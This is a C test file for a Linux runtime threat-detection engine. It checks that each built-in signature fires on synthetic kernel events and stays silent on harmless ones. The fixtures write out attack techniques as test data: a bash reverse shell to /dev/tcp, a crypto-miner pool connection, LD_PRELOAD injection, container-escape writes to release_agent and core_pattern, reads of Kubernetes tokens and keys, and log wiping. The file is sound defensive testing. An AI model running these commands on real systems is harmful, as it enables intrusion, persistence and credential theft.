// SPDX-License-Identifier: MIT
/*
 * test_signatures.c: every built-in signature on synthetic events (built in
 * memory by name, sig_synth.h): a positive and a negative case each, the
 * origin filter on every positive case (run again from the other origin),
 * and the engine: selection, validation of tables, duplicate findings from
 * a derived event and its syscall, exceptions' counting hook.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <fnmatch.h>

#include "sig_synth.h"
#include "signature.h"
#include "signatures/sigutil.h"

#define SOCK "inet:10.1.2.3:4444"

struct sig_case {
	const char *sig;
	const char *events[4];
	int expect;		/* findings */
};

/* Events are "EVENT: arg=value ... @context" (sig_synth.h). O_WRONLY is 01,
 * O_RDWR 02, O_CREAT 0100, O_TRUNC 01000. */
static const struct sig_case cases[] = {
	/* TRC-101 stdio_over_socket */
	{ "TRC-101", { "socket_dup: oldfd=3 newfd=1 remote_addr=" SOCK }, 1 },
	{ "TRC-101", { "socket_dup: oldfd=3 newfd=5 remote_addr=" SOCK }, 0 },
	{ "TRC-101", { "socket_dup: oldfd=3 newfd=0 remote_addr=unix:/run/x.sock" }, 0 },
	{ "TRC-101", { "security_socket_connect: sockfd=0 type=1 remote_addr=" SOCK }, 1 },
	{ "TRC-101", { "connect: sockfd=3 addr=" SOCK " @ret=0", "dup2: oldfd=3 newfd=0 @ret=0" }, 1 },
	{ "TRC-101", { "connect: sockfd=3 addr=" SOCK " @ret=0", "dup2: oldfd=4 newfd=0 @ret=0" }, 0 },
	{ "TRC-101", { "connect: sockfd=3 addr=" SOCK " @ret=-111", "dup2: oldfd=3 newfd=0" }, 0 },
	/* TRC-102, TRC-103 */
	{ "TRC-102", { "ptrace: request=0 pid=0" }, 1 },
	{ "TRC-102", { "ptrace: request=16 pid=42" }, 0 },
	{ "TRC-103", { "ptrace: request=4 pid=42" }, 1 },
	{ "TRC-103", { "ptrace: request=5 pid=42" }, 1 },
	{ "TRC-103", { "ptrace: request=2 pid=42" }, 0 },
	/* TRC-104 dynamic_code_loading */
	{ "TRC-104", { "mem_prot_alert: alert=4 prot=5 prev_prot=3" }, 1 },
	{ "TRC-104", { "mem_prot_alert: alert=4 prot=5 prev_prot=1" }, 0 },
	{ "TRC-104", { "mprotect: addr=4096 len=4096 prot=7" }, 1 },
	{ "TRC-104", { "mprotect: addr=4096 len=4096 prot=5" }, 0 },
	/* TRC-105 fileless_execution */
	{ "TRC-105", { "sched_process_exec: cmdpath=/proc/self/fd/3 pathname=/memfd:x (deleted)" }, 1 },
	{ "TRC-105", { "sched_process_exec: cmdpath=/dev/shm/x" }, 1 },
	{ "TRC-105", { "security_bprm_check: pathname=/dev/shm/x" }, 1 },
	{ "TRC-105", { "sched_process_exec: cmdpath=/usr/bin/ls pathname=/usr/bin/ls" }, 0 },
	/* TRC-106 */
	{ "TRC-106", { "openat: dirfd=-100 pathname=/sys/fs/cgroup/x/notify_on_release flags=01 @container" }, 1 },
	{ "TRC-106", { "openat: dirfd=-100 pathname=/sys/fs/cgroup/x/notify_on_release flags=0 @container" }, 0 },
	{ "TRC-106", { "security_file_open: pathname=/sys/fs/cgroup/x/notify_on_release flags=02 @container" }, 1 },
	/* TRC-107 ld_preload */
	{ "TRC-107", { "sched_process_exec: cmdpath=/bin/ls env=PATH=/bin|LD_PRELOAD=/tmp/evil.so" }, 1 },
	{ "TRC-107", { "execve: pathname=/bin/ls envp=LD_LIBRARY_PATH=/tmp/l" }, 1 },
	{ "TRC-107", { "sched_process_exec: cmdpath=/bin/ls env=PATH=/bin|HOME=/root" }, 0 },
	{ "TRC-107", { "openat: dirfd=-100 pathname=/etc/ld.so.preload flags=01101" }, 1 },
	{ "TRC-107", { "openat: dirfd=-100 pathname=/etc/ld.so.preload flags=0" }, 0 },
	{ "TRC-107", { "rename: oldpath=/tmp/p newpath=/etc/ld.so.preload" }, 1 },
	/* TRC-108 */
	{ "TRC-108", { "openat: dirfd=-100 pathname=/var/run/secrets/kubernetes.io/serviceaccount/token flags=0 @container" }, 1 },
	{ "TRC-108", { "openat: dirfd=-100 pathname=/var/run/secrets/kubernetes.io/serviceaccount/token flags=0 @container @comm=kube-proxy" }, 0 },
	{ "TRC-108", { "openat: dirfd=-100 pathname=/var/run/secrets/kubernetes.io/serviceaccount/ca.crt flags=0 @container" }, 0 },
	/* TRC-109 */
	{ "TRC-109", { "openat: dirfd=-100 pathname=/proc/sys/kernel/randomize_va_space flags=0" }, 1 },
	{ "TRC-109", { "openat: dirfd=-100 pathname=randomize_va_space flags=0 @cwd=/proc/sys/kernel" }, 1 },
	{ "TRC-109", { "openat: dirfd=-100 pathname=randomize_va_space flags=0" }, 0 },
	{ "TRC-109", { "openat: dirfd=-100 pathname=/proc/sys/kernel/randomize_va_space flags=0 @ret=-13" }, 0 },
	{ "TRC-109", { "openat: dirfd=-100 pathname=/proc/sys/kernel/hostname flags=0" }, 0 },
	/* TRC-1010 */
	{ "TRC-1010", { "openat: dirfd=-100 pathname=/tmp/cg/release_agent flags=01 @container" }, 1 },
	{ "TRC-1010", { "security_inode_rename: old_path=/tmp/a new_path=/tmp/cg/release_agent @container" }, 1 },
	{ "TRC-1010", { "openat: dirfd=-100 pathname=/tmp/cg/release_agent flags=0 @container" }, 0 },
	/* TRC-1011 */
	{ "TRC-1011", { "openat: dirfd=-100 pathname=/proc/sys/kernel/core_pattern flags=01" }, 1 },
	{ "TRC-1011", { "openat: dirfd=-100 pathname=/proc/sys/kernel/core_pattern flags=0" }, 0 },
	/* TRC-1012 */
	{ "TRC-1012", { "openat: dirfd=-100 pathname=/lib64/ld-linux-x86-64.so.2 flags=02" }, 1 },
	{ "TRC-1012", { "renameat2: olddirfd=-100 oldpath=/tmp/x newdirfd=-100 newpath=/lib/ld-musl-x86_64.so.1 flags=0" }, 1 },
	{ "TRC-1012", { "openat: dirfd=-100 pathname=/lib64/ld-linux-x86-64.so.2 flags=0" }, 0 },
	/* TRC-1013 */
	{ "TRC-1013", { "sched_process_exec: cmdpath=/bin/curl env=KUBERNETES_SERVICE_HOST=10.96.0.1 @container",
			"connect: sockfd=3 addr=inet:10.96.0.1:443 @container" }, 1 },
	{ "TRC-1013", { "sched_process_exec: cmdpath=/bin/curl env=KUBERNETES_SERVICE_HOST=10.96.0.1 @container",
			"connect: sockfd=3 addr=inet:10.96.0.2:443 @container" }, 0 },
	{ "TRC-1013", { "connect: sockfd=3 addr=inet:10.96.0.1:443 @container" }, 0 },
	/* TRC-1014 */
	{ "TRC-1014", { "mount: source=/dev/sda1 target=/mnt filesystemtype=ext4 @container" }, 1 },
	{ "TRC-1014", { "security_sb_mount: dev_name=/dev/vda path=/mnt type=ext4 @container" }, 1 },
	{ "TRC-1014", { "mount: source=tmpfs target=/mnt filesystemtype=tmpfs @container" }, 0 },
	/* TRC-1015, TRC-1022 */
	{ "TRC-1015", { "magic_write: pathname=/tmp/.hidden bytes=elf" }, 1 },
	{ "TRC-1015", { "magic_write: pathname=/tmp/visible bytes=elf" }, 0 },
	{ "TRC-1015", { "magic_write: pathname=/tmp/.hidden bytes=#!/bin/sh" }, 0 },
	{ "TRC-1022", { "magic_write: pathname=/usr/local/bin/x bytes=elf @container" }, 1 },
	{ "TRC-1022", { "magic_write: pathname=/proc/1/x bytes=elf @container" }, 0 },
	{ "TRC-1022", { "magic_write: pathname=/tmp/x bytes=hello @container" }, 0 },
	/* TRC-1016 */
	{ "TRC-1016", { "sched_process_exec: cmdpath=/bin/sh pathname=/usr/bin/dash prev_comm=nginx" }, 1 },
	{ "TRC-1016", { "sched_process_exec: cmdpath=/bin/bash @pcomm=apache2" }, 1 },
	{ "TRC-1016", { "sched_process_exec: cmdpath=/bin/bash prev_comm=sshd" }, 0 },
	{ "TRC-1016", { "sched_process_exec: cmdpath=/usr/bin/id prev_comm=nginx" }, 0 },
	{ "TRC-1016", { "execve: pathname=/bin/sh argv=sh|-c|id @comm=nginx" }, 1 },
	{ "TRC-1016", { "execve: pathname=/bin/sh argv=sh|-c|id @comm=nginx @ret=-2" }, 0 },
	{ "TRC-1016", { "sched_process_exec: cmdpath=/bin/sh prev_comm=nginx",
			"execve: pathname=/bin/sh argv=sh|-c|id @comm=nginx" }, 1 },
	/* TRC-1017 */
	{ "TRC-1017", { "finit_module: fd=3 param_values= flags=0" }, 1 },
	{ "TRC-1017", { "init_module: module_image=0 len=10 param_values=x=1" }, 1 },
	{ "TRC-1017", { "delete_module: name=x flags=0" }, 0 },
	/* TRC-1018 */
	{ "TRC-1018", { "openat: dirfd=-100 pathname=/etc/kubernetes/pki/ca.key flags=0" }, 1 },
	{ "TRC-1018", { "openat: dirfd=-100 pathname=/etc/kubernetes/pki/ca.key flags=0 @comm=kubelet" }, 0 },
	{ "TRC-1018", { "openat: dirfd=-100 pathname=/etc/kubernetes/admin.conf flags=0" }, 0 },
	/* TRC-1019 */
	{ "TRC-1019", { "connect: sockfd=3 addr=unix:/var/run/docker.sock @container" }, 1 },
	{ "TRC-1019", { "openat: dirfd=-100 pathname=/run/docker.sock flags=02 @container" }, 1 },
	{ "TRC-1019", { "connect: sockfd=3 addr=unix:/run/containerd.sock @container" }, 0 },
	/* TRC-1020, TRC-1030 */
	{ "TRC-1020", { "hooked_proc_fops: hooked_fops_pointers=[{\"address\":\"0xffff\"}]" }, 1 },
	{ "TRC-1020", { "hooked_syscall: syscall=kill address=0xffff function=h owner=rk" }, 0 },
	{ "TRC-1030", { "hooked_syscall: syscall=kill address=0xffff function=h owner=rk" }, 1 },
	{ "TRC-1030", { "hooked_proc_fops: hooked_fops_pointers=[]" }, 0 },
	/* TRC-1021 */
	{ "TRC-1021", { "openat: dirfd=-100 pathname=/proc/kcore flags=0" }, 1 },
	{ "TRC-1021", { "openat: dirfd=-100 pathname=/proc/kallsyms flags=0" }, 0 },
	/* TRC-1023, TRC-1024 */
	{ "TRC-1023", { "openat: dirfd=-100 pathname=/proc/1234/mem flags=0" }, 1 },
	{ "TRC-1023", { "openat: dirfd=-100 pathname=/proc/1234/maps flags=0" }, 0 },
	{ "TRC-1024", { "openat: dirfd=-100 pathname=/proc/1234/mem flags=02" }, 1 },
	{ "TRC-1024", { "openat: dirfd=-100 pathname=/proc/1234/mem flags=0" }, 0 },
	/* TRC-1025 */
	{ "TRC-1025", { "process_vm_writev: pid=4242" }, 1 },
	{ "TRC-1025", { "process_vm_writev: pid=100" }, 0 },
	/* TRC-1026 */
	{ "TRC-1026", { "openat: dirfd=-100 pathname=/etc/init.d/evil flags=0101" }, 1 },
	{ "TRC-1026", { "sched_process_exec: cmdpath=/usr/sbin/update-rc.d" }, 1 },
	{ "TRC-1026", { "openat: dirfd=-100 pathname=/etc/init.d/ssh flags=0" }, 0 },
	/* TRC-1027 */
	{ "TRC-1027", { "openat: dirfd=-100 pathname=/etc/cron.d/job flags=01101" }, 1 },
	{ "TRC-1027", { "rename: oldpath=/tmp/t newpath=/etc/systemd/system/x.timer" }, 1 },
	{ "TRC-1027", { "sched_process_exec: cmdpath=/usr/bin/crontab" }, 1 },
	{ "TRC-1027", { "openat: dirfd=-100 pathname=/etc/crontab flags=0" }, 0 },
	/* TRC-1028 */
	{ "TRC-1028", { "openat: dirfd=-100 pathname=/etc/sudoers.d/x flags=0101" }, 1 },
	{ "TRC-1028", { "openat: dirfd=-100 pathname=/etc/sudoers flags=0" }, 0 },
	/* TRC-1029 */
	{ "TRC-1029", { "openat: dirfd=-100 pathname=/proc/sched_debug flags=0" }, 1 },
	{ "TRC-1029", { "openat: dirfd=-100 pathname=/proc/schedstat flags=0" }, 0 },
	/* TRC-1031 */
	{ "TRC-1031", { "openat: dirfd=-100 pathname=/proc/sys/kernel/sysrq flags=01" }, 1 },
	{ "TRC-1031", { "openat: dirfd=-100 pathname=/proc/sys/kernel/sysrq flags=0" }, 0 },
	/* TRR-1001 */
	{ "TRR-1001", { "sched_process_exec: cmdpath=/tmp/x" }, 1 },
	{ "TRR-1001", { "sched_process_exec: cmdpath=./x @cwd=/var/tmp" }, 1 },
	{ "TRR-1001", { "sched_process_exec: cmdpath=/usr/bin/x" }, 0 },
	/* TRR-1002 */
	{ "TRR-1002", { "sched_process_exec: cmdpath=/bin/bash argv=bash|-c|bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" }, 1 },
	{ "TRR-1002", { "sched_process_exec: cmdpath=/bin/bash argv=bash|-c|echo hi" }, 0 },
	/* TRR-1003 */
	{ "TRR-1003", { "sched_process_exec: cmdpath=/tmp/xmrig argv=xmrig|-o|stratum+tcp://pool:3333" }, 1 },
	{ "TRR-1003", { "connect: sockfd=3 addr=inet:10.0.0.9:3333" }, 1 },
	{ "TRR-1003", { "connect: sockfd=3 addr=inet:10.0.0.9:443" }, 0 },
	{ "TRR-1003", { "security_socket_connect: sockfd=3 type=1 remote_addr=inet:10.0.0.9:14444" }, 1 },
	/* TRR-1004 */
	{ "TRR-1004", { "unlink: pathname=/root/.bash_history" }, 1 },
	{ "TRR-1004", { "openat: dirfd=-100 pathname=/root/.bash_history flags=01001" }, 1 },
	{ "TRR-1004", { "truncate: path=/home/u/.zsh_history length=0" }, 1 },
	{ "TRR-1004", { "openat: dirfd=-100 pathname=/root/.bash_history flags=02101" }, 0 },
	/* TRR-1005 */
	{ "TRR-1005", { "openat: dirfd=-100 pathname=/root/.ssh/authorized_keys flags=02101" }, 1 },
	{ "TRR-1005", { "openat: dirfd=-100 pathname=/root/.ssh/authorized_keys flags=0" }, 0 },
	/* TRR-1006 */
	{ "TRR-1006", { "chmod: pathname=/tmp/sh mode=04755" }, 1 },
	{ "TRR-1006", { "fchmodat: dirfd=-100 pathname=/tmp/sh mode=02755 flags=0" }, 1 },
	{ "TRR-1006", { "fchmod: fd=3 mode=04755" }, 1 },
	{ "TRR-1006", { "chmod: pathname=/tmp/sh mode=0755" }, 0 },
	{ "TRR-1006", { "chmod: pathname=/usr/bin/sudo mode=04755 @comm=dpkg" }, 0 },
	/* TRR-1007 */
	{ "TRR-1007", { "unlinkat: dirfd=-100 pathname=/var/log/auth.log flags=0" }, 1 },
	{ "TRR-1007", { "openat: dirfd=-100 pathname=/var/log/wtmp flags=01001" }, 1 },
	{ "TRR-1007", { "unlinkat: dirfd=-100 pathname=/var/log/auth.log.2.gz flags=0 @comm=logrotate" }, 0 },
	{ "TRR-1007", { "openat: dirfd=-100 pathname=/var/log/syslog flags=02101" }, 0 },
};

static const struct tr_signature *find_sig(const char *id)
{
	size_t n;
	const struct tr_signature *const *s = tr_signatures__builtin(&n);

	for (size_t i = 0; i < n; i++)
		if (!strcmp(s[i]->id, id))
			return s[i];
	return NULL;
}

static int count_finding(void *ctx, const struct tr_finding *f)
{
	(*(int *)ctx)++;
	assert_non_null(f->proc);
	assert_non_null(f->ev);
	return 0;
}

/* Run one case; flip inverts the @container context of every event. */
static int run_case(const struct sig_case *c, int flip)
{
	const struct tr_signature *sig = find_sig(c->sig);
	struct ss_ctx sc = { .tree = tr_proctree__new() };
	struct tr_sigset *set;
	int found = 0;

	assert_non_null(sig);
	assert_int_equal(tr_sigset__new(&set, &sig, 1, sc.tree, count_finding, &found), 0);
	for (size_t i = 0; i < 4 && c->events[i]; i++) {
		struct ss_event *e = calloc(1, sizeof(*e));

		ss_build(&sc, e, c->events[i]);
		if (flip)
			e->ev.pid_ns = e->ev.pid_ns == SS_HOST_PID_NS ? 4026532999U : SS_HOST_PID_NS;
		assert_int_equal(tr_sigset__event(set, &e->v), 0);
		free(e);
	}
	tr_sigset__free(set);
	tr_proctree__free(sc.tree);
	return found;
}

static void test_cases(void **state)
{
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		int got = run_case(&cases[i], 0);

		if (got != cases[i].expect)
			fail_msg("%s: %s: %d findings, expected %d", cases[i].sig, cases[i].events[0], got,
				 cases[i].expect);
	}
}

/* Every positive case again from the other origin: an "any" signature
 * fires the same, a container (host) one not outside (inside) one. */
static void test_origin(void **state)
{
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const struct tr_signature *sig = find_sig(cases[i].sig);
		int got, want;

		if (!cases[i].expect)
			continue;
		got = run_case(&cases[i], 1);
		want = sig->origin == TR_ORIGIN_ANY ? cases[i].expect : 0;
		if (got != want)
			fail_msg("%s (origin %s) from the other origin: %s: %d findings, expected %d", sig->id,
				 tr_origin__name(sig->origin), cases[i].events[0], got, want);
	}
}

/* Each built-in signature has a positive and a negative case above. */
static void test_coverage(void **state)
{
	size_t n;
	const struct tr_signature *const *s = tr_signatures__builtin(&n);

	assert_true(n >= 38);
	for (size_t i = 0; i < n; i++) {
		int pos = 0, neg = 0;
		char err[256];

		assert_int_equal(tr_sig__validate(s[i], err, sizeof(err)), 0);
		for (size_t j = 0; j < sizeof(cases) / sizeof(cases[0]); j++)
			if (!strcmp(cases[j].sig, s[i]->id))
				cases[j].expect ? pos++ : neg++;
		if (!pos || !neg)
			fail_msg("%s has %d positive and %d negative cases", s[i]->id, pos, neg);
		if (i)
			assert_true(strcmp(s[i - 1]->id, s[i]->id) != 0);
	}
}

static void test_select(void **state)
{
	size_t n, m;
	const struct tr_signature *const *s = tr_signatures__builtin(&n);
	const struct tr_signature *out[64];
	char err[256];

	assert_int_equal(tr_sigs__select(s, n, "all", out, &m, err, sizeof(err)), 0);
	assert_int_equal(m, n);
	assert_int_equal(tr_sigs__select(s, n, "TRC-102,exec_from_temp_dir", out, &m, err, sizeof(err)), 0);
	assert_int_equal(m, 2);
	assert_string_equal(out[0]->id, "TRC-102");
	assert_string_equal(out[1]->id, "TRR-1001");
	assert_int_equal(tr_sigs__select(s, n, "-TRR-1001", out, &m, err, sizeof(err)), 0);
	assert_int_equal(m, n - 1);
	for (size_t i = 0; i < m; i++)
		assert_string_not_equal(out[i]->id, "TRR-1001");
	assert_int_equal(tr_sigs__select(s, n, "all,-ld_preload,-TRC-101", out, &m, err, sizeof(err)), 0);
	assert_int_equal(m, n - 2);
	assert_int_equal(tr_sigs__select(s, n, "TRC-999", out, &m, err, sizeof(err)), -ENOENT);
	assert_non_null(strstr(err, "TRC-999"));
}

static int noop(struct tr_sig_ctx *ctx, const struct tr_event_view *v)
{
	return 0;
}

static void test_validate(void **state)
{
	static const char *const ev_ok[] = { "openat" }, *const ev_bad[] = { "no_such_event" };
	static const struct tr_sig_arg bad_arg[] = { { "openat", "nope", TR_WIRES_STR } };
	struct tr_signature s = { .id = "X-1", .name = "x", .description = "d", .events = ev_ok, .nevents = 1,
				  .on_event = noop };
	const struct tr_signature *p = &s;
	struct tr_sigset *set;
	char err[256];

	assert_int_equal(tr_sig__validate(&s, err, sizeof(err)), 0);
	s.name = NULL;
	assert_int_equal(tr_sig__validate(&s, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "name"));
	assert_int_equal(tr_sigset__new(&set, &p, 1, NULL, NULL, NULL), -EINVAL);
	s.name = "x";
	s.nevents = 0;
	assert_int_equal(tr_sig__validate(&s, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "no events"));
	s.nevents = 1;
	s.events = ev_bad;
	assert_int_equal(tr_sig__validate(&s, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "no_such_event"));
	s.events = ev_ok;
	s.args = bad_arg;
	s.nargs = 1;
	assert_int_equal(tr_sig__validate(&s, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "nope"));
	s.nargs = 0;
	s.severity = 4;
	assert_int_equal(tr_sig__validate(&s, err, sizeof(err)), -EINVAL);
}

/* A derived event and the syscall it comes from (same thread, same time,
 * same data) give one finding; the same open again later gives another. */
/* The engine's dispatch: each event goes to the signatures selecting it,
 * in registration order, filtered by origin; a derived event shadows its
 * source for a signature selecting both (tr_sigset__shadow); events no
 * signature selects (ids past every selected one too) reach none. */
static char dispatch_log[256];

static int log_call(struct tr_sig_ctx *ctx, const struct tr_event_view *v)
{
	size_t n = strlen(dispatch_log);

	snprintf(dispatch_log + n, sizeof(dispatch_log) - n, "%s:%s ", tr_sig__self(ctx)->id, v->def->name);
	return 0;
}

#define LOGSIG(ident, orig, ...) { .id = ident, .event_id = 6990, .name = "t", .description = "t", \
	.origin = orig, TR_SIG_EVENTS(__VA_ARGS__), .on_event = log_call }

static void test_dispatch(void **state)
{
	const struct tr_signature s1 = LOGSIG("T1", TR_ORIGIN_ANY, "security_file_open", "openat");
	const struct tr_signature s2 = LOGSIG("T2", TR_ORIGIN_HOST, "openat");
	const struct tr_signature s3 = LOGSIG("T3", TR_ORIGIN_CONTAINER, "openat", "close");
	const struct tr_signature s4 = LOGSIG("T4", TR_ORIGIN_ANY, "close", "openat");
	const struct tr_signature *sigs[] = { &s4, &s1, &s2, &s3 };
	static const struct { const char *ev, *want; } steps[] = {
		{ "openat: dirfd=-100 pathname=/etc/x flags=0", "T4:openat T2:openat " },
		{ "openat: dirfd=-100 pathname=/etc/x flags=0 @container", "T4:openat T3:openat " },
		{ "security_file_open: pathname=/etc/x flags=0", "T1:security_file_open " },
		{ "close: fd=3", "T4:close " },
		{ "close: fd=3 @container", "T4:close T3:close " },
		{ "execve: pathname=/bin/ls", "" },
		{ "lost_events: cpu=0 lost=1", "" },
	};
	struct ss_ctx sc = { .tree = tr_proctree__new() };
	struct tr_sigset *set;
	struct ss_event *e = calloc(1, sizeof(*e));
	int found = 0;

	assert_int_equal(tr_sigset__new(&set, sigs, 4, sc.tree, count_finding, &found), 0);
	tr_sigset__shadow(set, "security_file_open", "openat");
	for (size_t i = 0; i < sizeof(steps) / sizeof(steps[0]); i++) {
		dispatch_log[0] = '\0';
		ss_build(&sc, e, steps[i].ev);
		assert_int_equal(tr_sigset__event(set, &e->v), 0);
		if (strcmp(dispatch_log, steps[i].want))
			fail_msg("%s: called '%s', expected '%s'", steps[i].ev, dispatch_log, steps[i].want);
	}
	/* a container by its cgroup path: the engine remembers the last
	 * path's answer, by content, so the same buffer with another path
	 * gets a new answer */
	{
		static const struct { const char *cg, *want; } cgs[] = {
			{ "/system.slice/docker-0123abcd.scope", "T4:close T3:close " },
			{ "/system.slice/docker-0123abcd.scope", "T4:close T3:close " },
			{ "/user.slice/user-0.slice/session-1.scope", "T4:close " },
			{ "/kubepods/besteffort/pod1/0123", "T4:close T3:close " },
			{ "/user.slice", "T4:close " },
		};
		char buf[128];
		struct tr_proc_node *p;
		struct tr_bytes keep;

		ss_build(&sc, e, "close: fd=3");
		p = (struct tr_proc_node *)e->v.proc;
		assert_non_null(p);
		keep = p->cgroup;
		for (size_t i = 0; i < sizeof(cgs) / sizeof(cgs[0]); i++) {
			snprintf(buf, sizeof(buf), "%s", cgs[i].cg);
			p->cgroup = (struct tr_bytes){ buf, (uint32_t)strlen(buf) };
			dispatch_log[0] = '\0';
			assert_int_equal(tr_sigset__event(set, &e->v), 0);
			if (strcmp(dispatch_log, cgs[i].want))
				fail_msg("cgroup %s: called '%s', expected '%s'", cgs[i].cg, dispatch_log, cgs[i].want);
		}
		p->cgroup = keep;
	}
	tr_sigset__free(set);
	tr_proctree__free(sc.tree);
	free(e);
}

static void test_dedup(void **state)
{
	const struct tr_signature *sig = find_sig("TRC-1028");
	struct ss_ctx sc = { .tree = tr_proctree__new() };
	struct ss_event *a = calloc(1, sizeof(*a)), *b = calloc(1, sizeof(*b));
	struct tr_sigset *set;
	int found = 0;

	assert_int_equal(tr_sigset__new(&set, &sig, 1, sc.tree, count_finding, &found), 0);
	ss_build(&sc, a, "openat: dirfd=-100 pathname=/etc/sudoers flags=01");
	ss_build(&sc, b, "security_file_open: pathname=/etc/sudoers flags=01");
	b->ev.h.ts = a->ev.h.ts;
	assert_int_equal(tr_sigset__event(set, &a->v), 0);
	assert_int_equal(tr_sigset__event(set, &b->v), 0);
	assert_int_equal(found, 1);
	ss_build(&sc, a, "openat: dirfd=-100 pathname=/etc/sudoers flags=01");
	assert_int_equal(tr_sigset__event(set, &a->v), 0);
	assert_int_equal(found, 2);
	tr_sigset__free(set);
	tr_proctree__free(sc.tree);
	free(a);
	free(b);
}

static int suppress_sudoers(void *ctx, const struct tr_finding *f, const struct tr_proctree *t)
{
	return !strncmp(f->ev->ev->comm, "visudo", 16);
}

static void test_suppress(void **state)
{
	const struct tr_signature *sig = find_sig("TRC-1028");
	struct ss_ctx sc = { .tree = tr_proctree__new() };
	struct ss_event *a = calloc(1, sizeof(*a));
	struct tr_sigset_opts o = { .suppress = suppress_sudoers };
	struct tr_sigset *set;
	int found = 0;

	assert_int_equal(tr_sigset__new_opts(&set, &sig, 1, sc.tree, count_finding, &found, &o), 0);
	ss_build(&sc, a, "openat: dirfd=-100 pathname=/etc/sudoers flags=01 @comm=visudo");
	assert_int_equal(tr_sigset__event(set, &a->v), 0);
	ss_build(&sc, a, "openat: dirfd=-100 pathname=/etc/sudoers flags=01 @comm=vi");
	assert_int_equal(tr_sigset__event(set, &a->v), 0);
	assert_int_equal(found, 1);
	assert_int_equal(tr_sigset__findings(set), 1);
	assert_int_equal(tr_sigset__suppressed(set), 1);
	tr_sigset__free(set);
	tr_proctree__free(sc.tree);
	free(a);
}

static void test_status(void **state)
{
	char buf[256];

	assert_string_equal(tr_sig__status(find_sig("TRR-1001"), buf, sizeof(buf)), "live");
	assert_non_null(strstr(tr_sig__status(find_sig("TRC-1030"), buf, sizeof(buf)), "live recordings cannot feed"));
	assert_non_null(strstr(tr_sig__status(find_sig("TRC-1020"), buf, sizeof(buf)), "live recordings cannot feed"));
	assert_string_equal(tr_sig__status(find_sig("TRC-1015"), buf, sizeof(buf)), "needs derived: magic_write");
	assert_string_equal(tr_sig__status(find_sig("TRC-1028"), buf, sizeof(buf)),
			    "live (+derived: security_file_open,security_inode_rename)");
}

/* The helpers' own glob agrees with fnmatch(3) (no flags) on the shapes
 * signatures use. */
static void test_glob(void **state)
{
	static const char *const pats[] = { "/proc/[0-9]*/mem", "/etc/rc[0-6S].d/*", "*/ld-linux*.so*",
					    "*/.ssh/authorized_keys", "/tmp/?x", "a[!b]c", "[", "*", "/var/log/*",
					    "*/secrets/kubernetes.io/serviceaccount/*token", "**a*b" };
	static const char *const strs[] = { "/proc/123/mem", "/proc/self/mem", "/proc//mem", "/etc/rc3.d/S01x",
					    "/etc/rcX.d/a", "/lib64/ld-linux-x86-64.so.2", "/root/.ssh/authorized_keys",
					    "/tmp/ax", "/tmp/x", "abc", "axc", "[", "", "/var/log/", "/var/log/a/b",
					    "/run/secrets/kubernetes.io/serviceaccount/token", "ab", "xaxb" };

	for (size_t i = 0; i < sizeof(pats) / sizeof(pats[0]); i++)
		for (size_t j = 0; j < sizeof(strs) / sizeof(strs[0]); j++) {
			const char *one[] = { pats[i], NULL };

			if (tr_sigu__glob_any(one, strs[j]) != !fnmatch(pats[i], strs[j], 0))
				fail_msg("glob '%s' on '%s': %d, fnmatch says %d", pats[i], strs[j],
					 tr_sigu__glob_any(one, strs[j]), !fnmatch(pats[i], strs[j], 0));
		}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cases),
		cmocka_unit_test(test_origin),
		cmocka_unit_test(test_coverage),
		cmocka_unit_test(test_select),
		cmocka_unit_test(test_validate),
		cmocka_unit_test(test_dispatch),
		cmocka_unit_test(test_dedup),
		cmocka_unit_test(test_suppress),
		cmocka_unit_test(test_status),
		cmocka_unit_test(test_glob),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
